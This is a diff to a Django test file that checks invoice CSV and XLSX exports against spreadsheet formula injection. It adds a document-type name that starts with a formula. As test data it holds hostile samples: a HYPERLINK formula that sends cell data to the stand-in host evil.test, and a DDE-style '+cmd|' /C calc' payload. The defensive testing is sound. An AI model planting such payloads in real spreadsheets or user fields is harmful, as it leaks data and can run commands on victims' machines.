@@ -8,6 +8,8 @@ import pytest
 from django_scopes import scope
 from openpyxl import load_workbook
 
+from compliance.models import ComplianceRule, DocumentType
+from compliance.services import compliance_settings
 from invoices.exports import FORMULA_STARTS
 from invoices.services import invoice_create
 from tests.factories import BillingPeriodFactory, ContractFactory, SOVLineFactory, VendorFactory
@@ -16,6 +18,7 @@ pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B3,"Click")'
 HOSTILE = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+DOCUMENT_TYPE = "=SUM(1+1)"
 
 
 @pytest.fixture
@@ -33,9 +36,17 @@ def invoice(company, project, admin):
             scheduled_value=D("-100.00") if position == 3 else D("1000.00"),
         )
     with scope(company=company):
-        return invoice_create(
+        invoice = invoice_create(
             contract=contract, period=BillingPeriodFactory(project=project), acting_user=admin
         )
+        # A document type's name is user text too: the invoicing export's Compliance column
+        # starts with it ("=SUM(1+1): missing").
+        ComplianceRule.objects.create(
+            settings=compliance_settings(project),
+            document_type=DocumentType.objects.create(company=company, name=DOCUMENT_TYPE),
+            gates_payment=True,
+        )
+    return invoice
 
 
 def urls(invoice):
@@ -60,6 +71,7 @@ def test_csv_cells_never_start_like_a_formula(invoice, admin_client, which):
         assert "-100.00" in cells  # a negative figure stays a number
     else:
         assert {"'=1+2", "'@SUM(1+1)", "'+cmd|' /C calc'!A0"} <= set(cells)
+        assert "'=SUM(1+1): missing" in cells
 
 
 @pytest.mark.parametrize("which", [0, 1], ids=["invoice", "invoicing"])
@@ -76,7 +88,7 @@ def test_xlsx_has_no_formula_and_keeps_numbers(invoice, admin_client, which):
         assert g703.cell(4, 3).value == -100  # and a figure a number
         assert g703.cell(2, 3).value == 1000
     else:
-        assert {"=1+2", "@SUM(1+1)"} <= texts  # written as typed, as text
+        assert {"=1+2", "@SUM(1+1)", "=SUM(1+1): missing"} <= texts  # as typed, as text
 
 
 def _number(text):
